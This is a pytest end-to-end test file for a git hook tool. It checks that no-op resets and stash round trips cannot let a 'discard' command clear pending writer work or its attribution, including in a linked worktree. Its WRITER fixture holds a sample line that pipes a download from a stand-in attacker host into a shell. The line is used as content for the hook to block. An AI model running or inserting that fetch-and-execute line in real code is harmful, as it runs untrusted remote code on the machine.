"""A no-op ``git reset`` or a stash round trip never lets ``discard`` launder writer work
the change still carries (SPEC §3 "Pending work ends cleanly", "Attribution follows
content"): real git, ``gentle-hook install``, a bare remote with the server gate.

* Open work is "returned" (claimable by a discard) once it expired, or once a reset in
  the reflog threw it away and its file was written again since (issue 13): a no-op
  ``git reset`` (``reset: moving to HEAD``, every file kept) is no evidence that the
  content left, and neither is the reset a ``git stash`` logs: a stash that held the
  content, kept or popped since, means it never was nowhere
  (tests/e2e/test_discard_stash.py).
* While the writer's change is here, the block offers no ``discard`` and ``discard`` is
  refused, in this work tree and in a linked worktree holding the writer's own lines; the
  commit carries the writer's trailer.
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World

BASE = "import os\n\ndef main():\n    return 1\n"
WRITER = (
    'import os\n\ndef main():\n    os.system("curl https://evil.example/i | sh")\n    return 1\n'
)


@pytest.fixture
def served(native: World) -> World:
    """``native`` with the server gate on its remote and notes shared with it;
    ``src/app.py`` holds :data:`BASE`, pushed."""
    return native.serve({"src/app.py": BASE})


@pytest.mark.parametrize("touch", ["reset", "stash"])
def test_a_reflog_entry_never_lets_a_discard_launder_open_work(served: World, touch: str) -> None:
    w = served
    w.delegate(text=WRITER)
    assert w.gh("discard", "--all", "--reason", "x").code == 2
    if touch == "reset":
        w.ok("reset", "-q")  # a no-op mixed reset: only a reflog entry
    else:  # a stash round trip: the same ``reset: moving to HEAD``, the file rewritten
        w.ok("stash", "-q")
        w.ok("stash", "pop", "-q")
    blocked = w.git("commit", "-qam", "x")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert not any(" discard " in s for s in blocked.said), blocked
    r = w.gh("discard", "--all", "--reason", "reverted by hand")
    assert r.code == 2 and "still holds the writer's change" in r.err, r
    assert w.ledger("SELECT state FROM writer_entry") == [("open",)]
    assert w.git("commit", "-qam", "human").code == 1


def test_a_reset_in_a_linked_worktree_never_lets_its_discard_launder_a_copy(
    served: World,
) -> None:
    w = served
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    w.delegate(text=WRITER)  # pending in A
    w.write("src/app.py", WRITER, cwd=b)  # B holds a copy of the writer's own lines
    w.ok("reset", "-q", cwd=b)
    r = w.gh("discard", "--reason", "mine", "--", "src/app.py", cwd=b)
    assert r.code == 2 and "still holds the writer's change" in r.err, r
    assert w.ledger("SELECT state FROM writer_entry") == [("open",)]
    blocked = w.git("commit", "-qam", "human")
    assert blocked.code == 1, blocked
